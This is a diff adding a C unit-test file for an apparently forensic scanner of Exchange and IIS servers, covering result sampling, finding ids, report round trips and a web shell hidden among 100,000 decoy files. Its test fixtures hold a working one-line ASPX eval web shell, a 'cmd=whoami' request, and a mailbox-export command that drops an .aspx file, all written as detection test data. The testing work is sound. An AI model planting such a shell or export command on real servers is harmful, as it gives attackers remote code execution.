@@ -1,0 +1,337 @@
+/* The results object: the keep policy (fair per-rule sample, always-kept findings, exact
+ * counts, any arrival order), stable ids, the JSON-lines round trip (text, CSV and JSON lines
+ * of a saved sweep are those of the sweep), and a shell behind 100,000 decoys. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <cmocka.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "memscan.h"
+#include "mkarchive.h"
+#include "results/hit.h"
+#include "results/results_int.h"
+#include "results/store.h"
+
+static const exs_rule rule_a = {"T-A", "a", "", "Test", "", "", false};
+static const exs_rule rule_b = {"T-B", "b", "CVE-1", "Test", "", "", false};
+static const exs_rule rule_c = {"T-C", "c", "", "Test", "", "", true}; /* a backdoor rule */
+
+/* A finding of rule at line of file path, verdict v. */
+static void add(exs_store *st, const exs_rule *rule, exs_verdict v, const char *path, unsigned line)
+{
+    exs_hit h;
+    exs_hit_init(&h, rule, v, EXS_SEV_MEDIUM, 1000 + line);
+    h.line = line;
+    char ip[32];
+    snprintf(ip, sizeof ip, "192.0.2.%u", line % 7);
+    h.http.client = exs_str_cstr(ip);
+    exs_hit_origin o = {0};
+    o.label = "r";
+    o.path = exs_str_cstr(path);
+    o.kind = "test";
+    exs_finding f;
+    void *block;
+    assert_int_equal(exs_finding_build(&h, &o, NULL, 0, &f, &block, NULL), EXS_OK);
+    assert_true(exs_store_add(st, &f, block));
+}
+
+/* The kept findings as "rule:line" lines, sorted. */
+static char *kept(exs_results *r)
+{
+    size_t n;
+    const exs_finding *f = exs_results_findings(r, &n);
+    char *out = calloc(n * 24 + 1, 1);
+    size_t o = 0;
+    for (size_t i = 0; i < n; i++)
+        o += (size_t)sprintf(out + o, "%s:%llu\n", f[i].rule->id,
+                             (unsigned long long)f[i].origin.line);
+    return out;
+}
+
+/* 600 of rule A, 30 of rule B, 40 exploitation of A, 5 of backdoor rule C, budget 100,
+ * delivered in order k (0: forward, 1: backward, 2: interleaved). */
+static exs_results *sample(int k)
+{
+    exs_store *st = exs_store_create(100, 1000);
+    assert_non_null(st);
+    for (unsigned j = 0; j < 675; j++) {
+        unsigned i = k == 0 ? j : k == 1 ? 674 - j : (j * 7) % 675;
+        if (i < 600)
+            add(st, &rule_a, EXS_VERDICT_SUSPICIOUS, "x.log", i + 1);
+        else if (i < 630)
+            add(st, &rule_b, EXS_VERDICT_PROBE, "y.log", i + 1);
+        else if (i < 670)
+            add(st, &rule_a, EXS_VERDICT_EXPLOITATION, "z.log", i + 1);
+        else
+            add(st, &rule_c, EXS_VERDICT_SUSPICIOUS, "w.aspx", i + 1);
+    }
+    exs_results *r = exs_results_new();
+    assert_non_null(r);
+    assert_true(exs_store_finish(st, r));
+    assert_true(exs_results_sort(r));
+    exs_store_destroy(st);
+    return r;
+}
+
+static void test_store_fair_and_order_free(void **s_)
+{
+    (void)s_;
+    exs_results *a = sample(0), *b = sample(1), *c = sample(2);
+    char *ka = kept(a), *kb = kept(b), *kc = kept(c);
+    assert_string_equal(ka, kb);
+    assert_string_equal(ka, kc);
+    size_t n;
+    const exs_finding *f = exs_results_findings(a, &n);
+    /* 40 exploitation + 5 backdoor always; the budget of 100 shared: B has 30 (all kept),
+     * A gets the other 70 */
+    assert_int_equal(n, 45 + 100);
+    size_t na = 0, nb = 0, nexp = 0, nc = 0;
+    for (size_t i = 0; i < n; i++) {
+        if (f[i].verdict == EXS_VERDICT_EXPLOITATION)
+            nexp++;
+        else if (f[i].rule == &rule_c)
+            nc++;
+        else if (f[i].rule == &rule_a)
+            na++;
+        else
+            nb++;
+    }
+    assert_int_equal(nexp, 40);
+    assert_int_equal(nc, 5);
+    assert_int_equal(nb, 30);
+    assert_int_equal(na, 70);
+    /* counts are over everything */
+    const exs_sweep_stats *st = exs_results_stats(a);
+    assert_int_equal(st->findings, 675);
+    assert_int_equal(st->findings_dropped, 675 - 145);
+    assert_int_equal(st->verdicts[EXS_VERDICT_EXPLOITATION], 40);
+    size_t nr;
+    const exs_count *rc = exs_results_counts(a, EXS_COUNT_RULE, &nr);
+    assert_int_equal(nr, 3);
+    assert_string_equal(rc[0].key, "T-A");
+    assert_int_equal(rc[0].n, 640);
+    assert_int_equal(rc[0].by_verdict[EXS_VERDICT_EXPLOITATION], 40);
+    assert_int_equal(rc[1].n, 30);
+    assert_int_equal(rc[2].n, 5);
+    const exs_count *fc = exs_results_counts(a, EXS_COUNT_FAMILY, &nr);
+    assert_int_equal(nr, 2);
+    assert_string_equal(fc[0].key, "Test|");
+    assert_int_equal(fc[0].n, 645);
+    assert_string_equal(fc[1].key, "Test|CVE-1");
+    const exs_count *cl = exs_results_counts(a, EXS_COUNT_CLIENT, &nr);
+    assert_int_equal(nr, 7);
+    uint64_t sum = 0;
+    for (size_t i = 0; i < nr; i++)
+        sum += cl[i].n;
+    assert_int_equal(sum, 675);
+    free(ka);
+    free(kb);
+    free(kc);
+    exs_results_destroy(a);
+    exs_results_destroy(b);
+    exs_results_destroy(c);
+}
+
+static void test_ids(void **s_)
+{
+    (void)s_;
+    exs_hit h;
+    exs_hit_init(&h, &rule_a, EXS_VERDICT_PROBE, EXS_SEV_LOW, 5);
+    h.line = 3;
+    exs_hit_origin o = {0};
+    o.label = "srv";
+    o.path = EXS_LIT("a/b.log");
+    o.kind = "iis";
+    char a[EXS_ID_LEN], b[EXS_ID_LEN], c[EXS_ID_LEN], d[EXS_ID_LEN], e[EXS_ID_LEN];
+    assert_true(exs_finding_id(&h, &o, 0, a));
+    assert_true(exs_finding_id(&h, &o, 0, b));
+    assert_string_equal(a, b); /* the same evidence, the same id */
+    assert_int_equal(strlen(a), 32);
+    assert_true(exs_finding_id(&h, &o, 1, c)); /* a second finding of the same identity */
+    o.label = "srv-2";
+    assert_true(exs_finding_id(&h, &o, 0, d)); /* another root */
+    o.label = "srv";
+    h.line = 4;
+    assert_true(exs_finding_id(&h, &o, 0, e));
+    assert_string_not_equal(a, c);
+    assert_string_not_equal(a, d);
+    assert_string_not_equal(a, e);
+    /* what the id does not hold: the time, the verdict, the facts */
+    h.line = 3;
+    h.time_ms = 99;
+    h.verdict = EXS_VERDICT_EXPLOITATION;
+    exs_hit_fact_cstr(&h, "keyword", "x");
+    assert_true(exs_finding_id(&h, &o, 0, b));
+    assert_string_equal(a, b);
+}
+
+/* ---------------------------------------------------------------- round trip */
+
+static char *render(const exs_results *r, exs_format fmt, size_t top)
+{
+    char *buf = NULL;
+    size_t len = 0;
+    FILE *f = open_memstream(&buf, &len);
+    exs_report_opts o = EXS_REPORT_OPTS_INIT;
+    o.format = fmt;
+    o.top = top;
+    o.verbose = 1;
+    assert_int_equal(exs_report_write(r, f, &o), EXS_OK);
+    fclose(f);
+    return buf;
+}
+
+#define IIS_PLACE "c/inetpub/logs/logfiles/w3svc1/u_ex210305.log"
+#define IIS_HDR                                                                                    \
+    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "         \
+    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n"
+#define L(t, m, stem, q, ip, st)                                                                   \
+    "2021-03-05 " t " 10.0.0.5 " m " " stem " " q " 443 - " ip " Mozilla/5.0+(Windows+NT+10.0) - " st " 0 0 33\r\n"
+
+static void test_round_trip(void **s_)
+{
+    (void)s_;
+    const char *places[] = {
+        IIS_PLACE,
+        "c/program files/microsoft/exchange server/v15/frontend/httpproxy/owa/auth/errorEE.aspx",
+        "c/program files/microsoft/exchange server/v15/logging/cmdletinfra/powershell-proxy/cmdlet/rps_cmdlet_2021030414-1.log",
+        NULL};
+    const char *texts[] = {
+        IIS_HDR L("03:06:27", "GET", "/owa/auth/errorEE.aspx", "cmd=whoami", "192.0.2.1", "200")
+            L("03:06:28", "POST", "/owa/auth/errorEE.aspx", "-", "192.0.2.1", "200")
+                L("03:06:30", "GET", "/owa/auth/x\x1b[31m.aspx", "-", "198.51.100.9", "404")
+                    L("03:06:31", "GET", "/owa/auth/bad\xc3\x28\xff.aspx", "q=\xfe", "198.51.100.9", "404"),
+        "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>",
+        "#Software: Microsoft Exchange Server\r\n#Log-type: Rps Cmdlet Logs\r\n"
+        "#Fields: DateTime,StartTime,RequestId,ClientRequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ServerHostName,ProcessId,ProcessName,ThreadId,CultureInfo,Organization,AuthenticatedUser,ExecutingUserSid,EffectiveOrganization,UserServicePlan,IsAdmin,ClientApplication,Cmdlet,Parameters,ExecutionResult\r\n"
+        "2021-03-05T10:01:05.000Z,,r,,15,1,1713,1,EXCH01,1,w3wp#MSExchangePowerShellAppPool,1,,,CONTOSO\\administrator,S-1-5-21-1,,,True,,New-MailboxExportRequest,\"-Mailbox \"\"a\"\" -FilePath \"\"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\s.aspx\"\"\",Success\r\n",
+        NULL};
+    exs_scan *s = t_scan_many(places, texts);
+    const exs_results *r = exs_scan_results(s);
+    size_t n;
+    exs_results_findings(r, &n);
+    assert_true(n >= 6);
+    char *text = render(r, EXS_FORMAT_TEXT, 50), *csv = render(r, EXS_FORMAT_CSV, 0),
+         *jsonl = render(r, EXS_FORMAT_JSONL, 0);
+    char path[] = "/tmp/exsweep-rt-XXXXXX";
+    int fd = mkstemp(path);
+    assert_true(fd >= 0);
+    assert_int_equal(write(fd, jsonl, strlen(jsonl)), (ssize_t)strlen(jsonl));
+    close(fd);
+    exs_results *back = NULL;
+    char err[256];
+    const char *paths[] = {path};
+    assert_int_equal(exs_results_read_jsonl(&back, paths, 1, err, sizeof err), EXS_OK);
+    char *text2 = render(back, EXS_FORMAT_TEXT, 50), *csv2 = render(back, EXS_FORMAT_CSV, 0),
+         *jsonl2 = render(back, EXS_FORMAT_JSONL, 0);
+    assert_non_null(strstr(jsonl, "\"raw\":[{\"field\":")); /* the invalid UTF-8, exactly */
+    assert_string_equal(text, text2);
+    assert_string_equal(csv, csv2);
+    assert_string_equal(jsonl, jsonl2);
+    /* the ids and relations survive */
+    size_t n2;
+    const exs_finding *f = exs_results_findings(r, &n), *g = exs_results_findings(back, &n2);
+    assert_int_equal(n, n2);
+    bool related = false;
+    for (size_t i = 0; i < n; i++) {
+        assert_string_equal(f[i].id, g[i].id);
+        assert_int_equal(f[i].nrelated, g[i].nrelated);
+        related |= g[i].nrelated > 0;
+        for (size_t k = 0; k < g[i].nrelated; k++)
+            assert_non_null(exs_results_find(back, g[i].related[k]));
+    }
+    assert_true(related);
+    /* two saved sweeps read together: every root, every finding */
+    exs_results *two = NULL;
+    const char *paths2[] = {path, path};
+    assert_int_equal(exs_results_read_jsonl(&two, paths2, 2, err, sizeof err), EXS_OK);
+    exs_results_findings(two, &n2);
+    assert_int_equal(n2, 2 * n);
+    assert_int_equal(exs_results_sweep(two)->nroots, 2 * exs_results_sweep(r)->nroots);
+    assert_int_equal(exs_results_stats(two)->findings, 2 * exs_results_stats(r)->findings);
+    exs_results_destroy(two);
+    /* not a sweep's lines: a clear error */
+    FILE *bad = fopen(path, "w");
+    fputs("{\"a\":1}\nnot json\n", bad);
+    fclose(bad);
+    exs_results *none = NULL;
+    assert_int_equal(exs_results_read_jsonl(&none, paths, 1, err, sizeof err), EXS_EFORMAT);
+    assert_non_null(strstr(err, "no exsweep sweep record"));
+    assert_null(none);
+    unlink(path);
+    free(text);
+    free(csv);
+    free(jsonl);
+    free(text2);
+    free(csv2);
+    free(jsonl2);
+    exs_results_destroy(back);
+    exs_scan_destroy(s);
+}
+
+/* ---------------------------------------------------------------- a shell behind decoys */
+
+static void test_shell_behind_decoys(void **s_)
+{
+    (void)s_;
+    enum { DECOYS = 100000 };
+    const char **names = calloc(DECOYS + 2, sizeof *names), **datas = calloc(DECOYS + 2, sizeof *datas);
+    char *pool = malloc((size_t)DECOYS * 64);
+    assert_true(names && datas && pool);
+    for (int i = 0; i < DECOYS; i++) {
+        char *n = pool + (size_t)i * 64;
+        snprintf(n, 64, "inetpub/wwwroot/aspnet_client/d%06d.aspx", i);
+        names[i] = n;
+        datas[i] = "";
+    }
+    names[DECOYS] = "inetpub/wwwroot/aspnet_client/system_web/s.aspx";
+    datas[DECOYS] = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>";
+    char path[] = "/tmp/exsweep-decoy-XXXXXX.zip";
+    int fd = mkstemps(path, 4);
+    assert_true(fd >= 0);
+    close(fd);
+    assert_int_equal(t_write_archive(path, "zip", names, datas, NULL), 0);
+    exs_scan *s;
+    exs_scan_opts o = {2, 0};
+    assert_int_equal(exs_scan_create(&s, &o), EXS_OK);
+    assert_int_equal(exs_scan_add_root(s, path), EXS_OK);
+    assert_int_equal(exs_scan_run(s), EXS_OK);
+    const exs_results *r = exs_scan_results(s);
+    assert_int_equal(exs_results_verdict(r), EXS_VERDICT_EXPLOITATION);
+    size_t n;
+    const exs_finding *f = exs_results_findings(r, &n);
+    bool shell = false;
+    for (size_t i = 0; i < n; i++)
+        shell |= strcmp(f[i].rule->id, "EXS-Y-WS-EVAL") == 0 &&
+                 strcmp(f[i].origin.path, "inetpub/wwwroot/aspnet_client/system_web/s.aspx") == 0;
+    assert_true(shell);
+    /* the decoys are counted, every one */
+    size_t nr;
+    const exs_count *rc = exs_results_counts(r, EXS_COUNT_RULE, &nr);
+    uint64_t nondefault = 0;
+    for (size_t i = 0; i < nr; i++)
+        if (strcmp(rc[i].key, "EXS-FILE-WS-NONDEFAULT") == 0)
+            nondefault = rc[i].n;
+    assert_int_equal(nondefault, DECOYS + 1);
+    exs_scan_destroy(s);
+    unlink(path);
+    free(names);
+    free(datas);
+    free(pool);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_store_fair_and_order_free),
+        cmocka_unit_test(test_ids),
+        cmocka_unit_test(test_round_trip),
+        cmocka_unit_test(test_shell_behind_decoys),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
